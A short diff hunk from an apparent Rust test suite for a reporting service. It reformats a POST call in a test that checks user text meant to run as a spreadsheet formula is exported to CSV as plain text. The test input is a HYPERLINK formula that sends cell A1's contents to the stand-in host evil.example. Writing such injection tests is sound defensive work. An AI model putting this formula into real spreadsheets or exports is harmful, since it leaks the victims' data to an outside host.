@@ -510,7 +510,13 @@ async fn the_report_carries_each_slipping_targets_explanation(backend: Backend) 
 
     // Text that a spreadsheet would run as a formula is written to the CSV as text.
     let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")"#;
-    let reply = post(&app, &health, &path(year, beds), &json!({ "text": formula })).await;
+    let reply = post(
+        &app,
+        &health,
+        &path(year, beds),
+        &json!({ "text": formula }),
+    )
+    .await;
     assert_eq!(reply.status, 201, "{reply:?}");
     let csv = String::from_utf8(
         fetch(
